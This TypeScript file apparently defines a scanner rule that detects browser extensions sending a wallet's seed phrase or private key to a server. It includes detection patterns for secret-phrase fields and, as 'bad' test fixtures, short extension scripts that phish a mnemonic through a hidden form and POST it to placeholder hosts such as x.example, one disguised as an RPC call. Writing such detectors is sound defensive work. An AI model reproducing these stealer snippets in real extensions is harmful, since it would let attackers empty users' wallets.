import { constant, listOf, nameOf, Op, readsNamed, resolve, type ScriptFacts } from '../../facts/javascript/query.ts';
import { defineRule } from '../../rule.ts';
import { checkScripts, contentExample } from './checkScripts.ts';
import { mentions, textsOf } from './network.ts';
import { leavesBy } from './sendings.ts';
import { few } from './usage.ts';

const WORDS = /seed|mnemonic|recovery.?phrase|secret.?phrase|private.?key|12.?word|24.?word|backup.?phrase/i;
/** Fields, variables and keys that hold a wallet's phrase. */
const PHRASE =
  /^(seed(_?phrase|_?words?)?|mnemonic(s|_?phrase)?|(recovery|secret|backup)_?phrase|phrase|private_?key|keyphrase)$/i;

export const walletPhraseSent = defineRule({
  id: 'wallet-phrase-sent',
  title: 'The secret phrase of a wallet is sent to a server',
  severity: 'critical',
  confidence: 'medium',
  category: 'privacy',
  applies: 'extension',
  cwe: 'CWE-522',
  references: ['https://attack.mitre.org/techniques/T1056/003/'],
  why: 'Whoever knows the phrase owns everything in the wallet. A real wallet uses it on the device and sends it to nobody.',
  remedy: 'Never send a phrase or private key. Whoever has typed theirs in should move their money at once.',
  cap: { grade: 'F', reason: 'it sends the secret of wallets to a server' },
  check: checkScripts(function* ({ script, hit }) {
    if (!mentions(script, WORDS)) return;
    const typed = new Set(
      few(readsNamed(script, 'value', 'innerText', 'textContent'), 400).filter(
        (value) => nameOf(script, value) === 'value' || isPhrase(script, value),
      ),
    );
    const named = new Set([...typed].filter((value) => isPhrase(script, script.a[value] as number)));
    // Where its own markup asks for the words, any field may be the one for them.
    const whole = leavesBy(script, asksForWords(script) ? typed : named, ['network']);
    if (whole !== undefined) {
      yield hit(whole.value, { confidence: 'high', message: `It goes to ${whole.to}.` });
      return;
    }
    // The field has another name, what it is kept in has not: `const mnemonic = fields.map((f) => f.value)`.
    for (const value of phrases(script)) {
      const out = leavesBy(script, new Set([value]), ['network']);
      if (out === undefined || leavesBy(script, typed, ['network']) === undefined) continue;
      yield hit(out.value, { message: `It goes to ${out.to}.` });
      return;
    }
  }),
  examples: {
    bad: [
      contentExample(
        'const box = host.attachShadow({ mode: "closed" }); box.innerHTML = "<form><h3>Wallet needs to be restored</h3><textarea placeholder=\\"12 or 24 words\\"></textarea></form>"; box.querySelector("form").onsubmit = () => fetch("https://x.example/w", { method: "POST", body: box.querySelector("textarea").value }); document.body.append(host);',
      ),
      {
        files: {
          'manifest.json':
            '{"manifest_version": 3, "name": "Example", "version": "1.0", "action": {"default_popup": "p.html"}}',
          'p.html': '<form id="f"><textarea name="seed"></textarea></form><script src="p.js"></script>',
          'p.js':
            'document.getElementById("f").addEventListener("submit", (e) => { const words = e.target.seed.value.trim(); fetch("https://x.example/import", { method: "POST", body: JSON.stringify({ m: words }) }); });',
        },
      },
      {
        files: {
          'manifest.json':
            '{"manifest_version": 3, "name": "Example", "version": "1.0", "action": {"default_popup": "p.html"}}',
          'p.html': '<input id="w1"><input id="w2"><script src="p.js"></script>',
          'p.js':
            'const mnemonic = [w1, w2].map((i) => i.value).join(" "); fetch("https://x.example/i?p=" + encodeURIComponent(mnemonic));',
        },
      },
      {
        files: {
          'manifest.json':
            '{"manifest_version": 3, "name": "Example", "version": "1.0", "action": {"default_popup": "p.html"}}',
          'p.html': '<textarea id="mnemonic"></textarea><script src="p.js"></script>',
          'p.js':
            'const code = (list) => "0x" + list.map((w) => WORDS.indexOf(w).toString(16)).join(""); go.onclick = () => { const w = document.getElementById("mnemonic").value.split(" "); fetch("https://node.example", { method: "POST", body: JSON.stringify({ method: "pay", params: [code(w)] }) }); };',
        },
      },
    ],
    good: [
      {
        files: {
          'manifest.json':
            '{"manifest_version": 3, "name": "Example", "version": "1.0", "action": {"default_popup": "p.html"}}',
          'p.html': '<textarea id="phrase"></textarea><script src="p.js"></script>',
          'p.js':
            'const mnemonic = document.getElementById("phrase").value; const keys = derive(mnemonic); chrome.storage.session.set({ open: true }); fetch("https://node.example/rpc", { method: "POST", body: JSON.stringify({ method: "eth_blockNumber" }) });',
        },
      },
      {
        files: {
          'manifest.json':
            '{"manifest_version": 3, "name": "Example", "version": "1.0", "action": {"default_popup": "p.html"}}',
          'p.html': '<input id="q"><script src="p.js"></script>',
          'p.js':
            'const seed = Math.random(); fetch("https://api.example.com/search?q=" + encodeURIComponent(document.getElementById("q").value) + "&seed=" + seed);',
        },
      },
    ],
  },
});

/** Whether fields are made with words beside them that ask for a wallet's secret. */
function asksForWords(script: ScriptFacts): boolean {
  return textsOf(script).some(({ text }) => /<(?:textarea|input)\b/i.test(text) && WORDS.test(text));
}

function isPhrase(script: ScriptFacts, value: number): boolean {
  if (PHRASE.test(nameOf(script, value))) return true;
  // `document.getElementById('mnemonic')`, `querySelector('#seed-phrase')`
  const made = resolve(script, value);
  if (
    script.op[made] !== Op.call ||
    !/^(getElementById|querySelector|\$)$/.test(nameOf(script, script.a[made] as number))
  )
    return false;
  const words = (constant(script, listOf(script, script.b[made] as number)[0] ?? 0) ?? '').match(/[\w-]+/g) ?? [];
  return words.some((word) => PHRASE.test(word.replaceAll('-', '_')));
}

/** Values of variables that bear such a name and are made of more than a number. */
function phrases(script: ScriptFacts): number[] {
  const out: number[] = [];
  for (let at = 0; at < script.defs.length && out.length < 20; at += 2) {
    const name = script.strings[script.bindings[(script.defs[at] as number) * 3] as number] ?? '';
    const value = script.defs[at + 1] as number;
    if (PHRASE.test(name) && /mnemonic|phrase/i.test(name) && script.op[value] === Op.call) out.push(value);
  }
  return out;
}
